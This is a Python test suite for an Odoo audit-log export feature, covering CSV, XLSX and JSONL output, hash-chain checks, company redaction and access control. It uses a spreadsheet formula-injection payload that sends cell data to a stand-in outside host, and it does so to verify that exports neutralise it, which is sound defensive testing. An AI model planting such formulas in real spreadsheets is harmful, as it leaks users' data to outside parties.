"""Exports: three formats, safe in spreadsheets, verifiable without Odoo, with own rights only."""

import base64
import csv
import hashlib
import io
import json
from datetime import timedelta

import openpyxl
from freezegun import freeze_time

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from ..engine import chain_check, sheet_safety
from ..wizards import smart_audit_export
from .audit_common import AuditCase

FORMULA = '=HYPERLINK("http://example.org?x="&A1)'


@tagged("smart", "post_install", "-at_install")
class TestAuditExport(AuditCase):
    def setUp(self):
        super().setUp()
        self.entries = self.append(
            5, rule_code="test.export", decision_name=FORMULA, confidence=0.5, input_tokens=-3
        )
        self.log._seal()

    def export(self, file_format, user=None, **values):
        wizard = (
            self.env["smart.audit.export"]
            .with_user(user or self.auditor)
            .create({"file_format": file_format, "rule_code": "test.export", **values})
        )
        wizard.action_export()
        return wizard, base64.b64decode(wizard.file_data)

    def table(self, content):
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]

    def test_csv_round_trip(self):
        _wizard, content = self.export("csv")
        rows = self.table(content)
        self.assertEqual([int(row["Number"]) for row in rows], self.entries.mapped("sequence"))
        self.assertEqual({row["Decision"] for row in rows}, {"'" + FORMULA})
        self.assertEqual(sheet_safety.unescape(rows[0]["Decision"]), FORMULA)
        self.assertEqual(rows[0]["Tokens sent"], "-3")
        self.assertEqual(rows[0]["Action"], "Executed")
        self.assertEqual(rows[0]["Company"], self.env.company.name)
        self.assertEqual([row["Chain hash"] for row in rows], self.entries.mapped("chain_hash"))
        self.assertEqual(json.loads(rows[1]["What was proposed"]), self.entries[1].proposal)

    def test_xlsx_round_trip(self):
        _wizard, content = self.export("xlsx")
        head, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
        place = {cell.value: cell.column - 1 for cell in head}
        self.assertEqual(
            [row[place["Number"]].value for row in rows], self.entries.mapped("sequence")
        )
        cell = rows[0][place["Decision"]]
        self.assertEqual((cell.data_type, cell.value, cell.hyperlink), ("s", FORMULA, None))
        self.assertEqual(rows[0][place["Tokens sent"]].value, -3)
        self.assertEqual(rows[0][place["Confidence"]].value, 0.5)

    def test_json_lines_verify_without_odoo(self):
        self.append(3, rule_code="test.other")
        self.append(2, rule_code="test.export")
        self.log._seal()
        fresh = self.append(1, rule_code="test.export")
        wizard, content = self.export("jsonl")
        lines = content.decode().splitlines()
        self.assertEqual((wizard.entry_count, len(lines)), (8, 11))
        report = chain_check.verify_export(lines)
        self.assertTrue(report.ok, report.breaks)
        self.assertEqual((report.checked, report.unsealed), (10, 1))
        self.assertTrue(chain_check.verify_export(lines, self.log._keys()).ok)
        self.assertEqual(json.loads(lines[-1])["id"], fresh.id)
        lines[2] = lines[2].replace("reason 2", "reason 3")
        self.assertEqual(
            chain_check.verify_export(lines).breaks[0].sequence, self.entries[2].sequence
        )

    def test_other_companies_leave_only_hashes(self):
        other = self.env["res.company"].create({"name": "Other Ltd"})
        self.append(1, rule_code="test.export", company_id=other.id, decision_name="Hidden deal")
        self.append(1, rule_code="test.export")
        self.log._seal()
        wizard, content = self.export("jsonl")
        self.assertEqual(wizard.entry_count, 6)
        self.assertNotIn(b"Hidden deal", content)
        self.assertTrue(chain_check.verify_export(content.decode().splitlines()).ok)
        for file_format in ("csv", "xlsx"):
            self.assertEqual(self.export(file_format)[0].entry_count, 6)
        self.assertNotIn(b"Hidden deal", self.export("csv")[1])

    def test_period_is_in_the_readers_days(self):
        with freeze_time("2026-03-10 23:30:00"):  # the 11th in Berlin
            self.append(1, rule_code="test.export")
        self.auditor.tz = "Europe/Berlin"
        day = fields.Date.to_date("2026-03-11")
        self.assertEqual(self.export("csv", date_from=day, date_to=day)[0].entry_count, 1)
        before = day - timedelta(days=1)
        with self.assertRaises(UserError):
            self.export("csv", date_from=before, date_to=before)

    def test_export_is_noted_with_the_digest_of_the_file(self):
        wizard, content = self.export("csv", self.manager)
        entry = self.log.search([], limit=1)
        self.assertEqual((entry.action, entry.user_ref), ("exported", self.manager.id))
        self.assertEqual(entry.proposal["sha256"], hashlib.sha256(content).hexdigest())
        self.assertEqual(wizard.file_digest, entry.proposal["sha256"])

    def test_too_many_entries_are_refused_plainly(self):
        self.patch(smart_audit_export, "MAX_ENTRIES", 4)
        with self.assertRaisesRegex(UserError, "shorter period"):
            self.export("csv")
        self.patch(smart_audit_export, "MAX_ENTRIES", 6)
        self.append(4, rule_code="test.other")
        self.append(1, rule_code="test.export")
        self.log._seal()
        self.export("csv")
        with self.assertRaisesRegex(UserError, "too far apart"):
            self.export("jsonl")

    def test_others_cannot_export(self):
        with self.assertRaises(AccessError):
            self.export("csv", self.employee)

    def test_another_users_export_is_out_of_reach(self):
        wizard, _content = self.export("csv")
        with self.assertRaises(AccessError):
            wizard.with_user(self.manager).read(["file_data"])
